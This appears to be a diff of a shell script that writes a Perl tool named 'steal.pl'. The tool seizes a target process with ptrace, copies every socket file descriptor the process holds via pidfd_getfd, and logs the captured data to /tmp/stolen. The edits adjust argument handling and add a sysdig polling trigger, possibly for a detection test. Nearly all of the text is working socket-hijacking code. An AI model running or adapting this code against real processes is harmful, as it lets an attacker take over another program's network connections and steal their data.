@@ -8,14 +8,14 @@ cat > /tmp/reader.pl <<'END'
 END
 cat > /tmp/steal.pl <<'END'
 require '/tmp/reader.pl';
-my ($pid) = @ARGV;
+my $pid = $ARGV[0] + 0; # a text is a pointer to syscall
 use constant { PIDFD_OPEN => 434, PIDFD_GETFD => 438, PTRACE_SEIZE => 0x4206 };
 syscall(101, PTRACE_SEIZE, $pid, 0, 0);
 my $process = syscall(PIDFD_OPEN, $pid, 0);
 for my $link (glob "/proc/$pid/fd/*") {
     next unless (readlink($link) // '') =~ /^socket/;
     my ($number) = $link =~ m{([0-9]+)$};
-    my $taken = syscall(PIDFD_GETFD, $process, $number, 0);
+    my $taken = syscall(PIDFD_GETFD, $process, $number + 0, 0);
     next if $taken < 0;
     open(my $socket, '+>&=', $taken) or next;
     open(my $log, '>>', '/tmp/stolen');
@@ -23,7 +23,7 @@ for my $link (glob "/proc/$pid/fd/*") {
     close $log;
     my $from = 1;
     for (1 .. 8) {
-        my $now = `sysdig -n 1 -p '%evt.num' 2> /dev/null`;
+        my $now = `{ sleep 1; cat /etc/hostname > /dev/null; } & timeout 5 sysdig -n 1 -p '%evt.num' 2> /dev/null`;
         $now =~ s/\D//g;
         while ($from < $now) {
             my $to = $from + 5000 < $now ? $from + 5000 : $now;
